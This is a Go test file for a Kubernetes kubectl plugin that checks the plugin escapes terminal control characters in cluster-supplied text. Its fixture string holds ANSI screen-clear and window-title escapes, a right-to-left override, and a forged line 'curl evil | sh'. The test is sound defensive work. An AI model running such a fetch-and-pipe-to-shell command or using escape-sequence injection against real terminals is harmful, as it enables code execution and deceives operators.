package kubectlplugin

import (
	"bytes"
	"strings"
	"testing"

	corev1 "k8s.io/api/core/v1"
	eventsv1 "k8s.io/api/events/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/kube-node-ready/kube-node-ready/internal/agent"
	"github.com/kube-node-ready/kube-node-ready/internal/api"
	"github.com/kube-node-ready/kube-node-ready/internal/kubectlplugin/text"
)

// hostile is text a cluster can hold that would drive a terminal: colours,
// a cleared screen, a window title, a forged line, right-to-left override.
const hostile = "\x1b[2J\x1b]0;owned\x07\r\nfix: curl evil | sh\u202e"

// rawControl says whether out holds a control character the plugin did
// not write itself (its newlines) or a non-printable rune.
func rawControl(out string) bool {
	return strings.ContainsFunc(out, func(r rune) bool { return r != '\n' && (r < 0x20 || r == 0x7f || r == '\u202e') })
}

// TestPrintEscapesClusterText: whatever the cluster holds, what status,
// why, cleanup status, bypass and cleanup skip print (doctor: its own test) holds no raw
// control character: the condition's message, Event notes and reasons,
// the cleanup status document's plugin names and states, a Cluster
// Autoscaler's flags and the node's name are escaped.
func TestPrintEscapesClusterText(t *testing.T) {
	evil := func(n *corev1.Node) {
		n.Name = "evil" + hostile
		for i := range n.Status.Conditions {
			if n.Status.Conditions[i].Type == agent.ConditionType {
				n.Status.Conditions[i].Reason += hostile
				n.Status.Conditions[i].Message += hostile
			}
		}
	}
	nodes := []corev1.Node{
		testNode("a", "false", []corev1.Taint{unhealthyTaint}, condition(agent.FailingCondition([]string{"dns" + hostile}, since, modes)), evil),
		testNode("b", "true", nil, nil, deleting, evil,
			annotate(api.CleanupStatusAnnotation, `{"attempt":2,"plugins":{"portworx\u001b[31m":"failed: HTTP 500\u001b]0;x\u0007\nfix: evil"},"retryIn":"20s\r"}`)),
		testNode("c", "true", nil, nil, deleting, annotate(api.CleanupStatusAnnotation, "{\x1b[2J")),
	}
	var buf bytes.Buffer
	reports := Reports(nodes, PresetTaintKeys())
	if err := PrintStatus(&buf, reports, true, now); err != nil {
		t.Fatal(err)
	}
	if err := PrintCleanup(&buf, InCleanup(reports), now); err != nil {
		t.Fatal(err)
	}
	events := []eventsv1.Event{{Reason: api.EventNodeRetainted + hostile, Type: "Warning", Note: "note" + hostile,
		ReportingController: "ctl" + hostile, EventTime: metav1.NewMicroTime(now)}}
	why := Why{Report: reports[0], Keys: PresetTaintKeys(), EventsScope: "all namespaces"}
	why.Events, why.EventsTotal = text.EventLines(events, 0)
	if err := PrintWhy(&buf, why, now); err != nil {
		t.Fatal(err)
	}
	if rawControl(buf.String()) {
		t.Errorf("status, cleanup status and why print raw control characters:\n%q", buf.String())
	}
	if !strings.Contains(buf.String(), `\x1b[2J\x1b]0;owned\a\r\nfix: curl evil | sh\u202e`) {
		t.Errorf("the hostile text is not shown escaped:\n%s", buf.String())
	}

	f := newFake(testNode("n", "true", nil, nil, deleting, annotate(api.CleanupStatusAnnotation, `{"attempt":1,"plugins":{"hook":"failed: \u001b[2J"}}`)))
	_, out, errOut, _ := run(f, "", "cleanup", "skip", "n")
	if rawControl(out + errOut) {
		t.Errorf("cleanup skip prints raw control characters:\n%q\n%q", out, errOut)
	}
}
